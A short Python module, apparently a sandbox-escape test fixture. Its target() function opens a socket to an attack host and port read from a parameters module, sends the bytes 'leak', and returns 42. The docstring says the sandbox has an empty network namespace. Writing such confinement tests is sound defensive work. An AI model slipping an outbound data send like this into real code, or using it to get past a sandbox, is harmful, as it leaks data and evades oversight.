"""Sends data to a service on the host: the sandbox has its own empty network namespace."""
import socket

from attack_params import HOST, PORT


def target():
    socket.create_connection((HOST, PORT), timeout=2).sendall(b"leak")
    return 42
